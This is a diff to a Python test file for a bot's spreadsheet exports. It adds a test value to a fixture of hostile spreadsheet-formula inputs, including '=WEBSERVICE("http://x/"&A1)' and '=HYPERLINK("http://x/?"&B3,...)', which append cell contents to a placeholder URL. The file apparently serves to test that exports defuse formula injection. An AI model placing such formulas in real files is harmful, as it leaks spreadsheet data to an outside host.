@@ -14,7 +14,9 @@ from openpyxl import load_workbook
 
 from bot.cli import main
 from bot.spreadsheets import FORMULA_STARTS, csv_cell
+from storage import acceptance
 from storage.db import Database
+from storage.rows import ts
 from tests.conftest import SHANGHAI
 from tests.projects_helpers import seed_project, seed_report
 
@@ -30,6 +32,7 @@ HOSTILE_ORGS = [
 ORG_TEXT = [text for pair in HOSTILE_ORGS for text in pair]
 PROJECT_NAME = "=1+1 项目"
 REPORT_TEXT = ["\t=1+2", "\r=2+3", '=WEBSERVICE("http://x/"&A1)']
+CITATION = '=HYPERLINK("http://x/?"&B3,"示范")'  # a 示范项目's citation, in the year's book
 
 
 # How OOXML stores a control character in text (a CR is _x000D_): openpyxl leaves it so.
@@ -74,7 +77,7 @@ EXPORTS = {
     ),
     "ledger-year.xlsx": (
         ["ledger", "--year", "2026", "--detail"],
-        [*ORG_TEXT, PROJECT_NAME, *REPORT_TEXT],
+        [*ORG_TEXT, PROJECT_NAME, *REPORT_TEXT, CITATION],
     ),
 }
 
@@ -104,6 +107,8 @@ def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
                 for period, problems in zip(("2026-09", "2026-10", "2026-11"), REPORT_TEXT,
                                             strict=True):  # fmt: skip
                     await seed_report(db, pid, period, NOW, problems=problems)
+            async with db.transaction() as conn:  # the last one a 示范项目
+                await acceptance.choose_model(conn, pid, 2026, CITATION, 1, ts(NOW))
         finally:
             await db.close()
 
